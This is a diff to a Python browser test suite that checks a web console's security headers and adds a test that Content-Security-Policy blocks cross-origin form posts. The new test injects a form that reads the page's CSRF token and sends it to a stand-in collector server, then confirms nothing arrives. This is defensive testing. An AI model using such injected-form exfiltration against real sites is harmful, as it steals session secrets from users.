@@ -21,9 +21,12 @@ class _Elsewhere:
 
     def __init__(self, body: str) -> None:
         page = f"<!doctype html><title>elsewhere</title>{body}".encode()
+        self.paths: list[str] = []
+        paths = self.paths
 
         class Handler(BaseHTTPRequestHandler):
             def do_GET(self) -> None:
+                paths.append(self.path)
                 self.send_response(200)
                 self.send_header("Content-Type", "text/html")
                 self.send_header("Content-Length", str(len(page)))
@@ -84,6 +87,7 @@ def _headers_ok(response: Any, url: str) -> None:
     for directive in ("default-src 'self'", "script-src 'self'", "style-src 'self'"):
         assert directive in policy, (url, policy)
     assert "unsafe-inline" not in policy, url
+    assert "form-action 'self'" in policy, (url, policy)
     assert headers.get("x-frame-options") == "DENY", url
     assert headers.get("x-content-type-options") == "nosniff", url
 
@@ -165,3 +169,30 @@ def test_a_page_opened_by_another_site_records_no_view(
     assert viewed.value.status == 204
     ann.reload()
     expect(ann.get_by_text("Unchanged since you last looked.")).to_be_visible()
+
+
+def test_a_console_page_cannot_send_a_form_to_another_origin(
+    served: Served, signed_in: Any, elsewhere: Any
+) -> None:
+    """A form planted in a console page (markup injected anywhere) cannot carry what the
+    page holds to another site: ``form-action 'self'``."""
+    collector = elsewhere("<p>collected</p>")
+    ann = signed_in("ann")
+    ann.goto("/console/account")
+    with ann.expect_console_message(lambda message: "form-action" in message.text):
+        ann.evaluate(
+            """(target) => {
+                const form = document.createElement("form");
+                form.method = "get";
+                form.action = target;
+                const field = document.createElement("input");
+                field.name = "csrf";
+                field.value = document.querySelector("input[name=csrf]")?.value || "secret";
+                form.append(field);
+                document.body.append(form);
+                form.submit();
+            }""",
+            collector.url + "collect",
+        )
+    assert ann.url.endswith("/console/account")
+    assert collector.paths == []  # nothing reached the other site
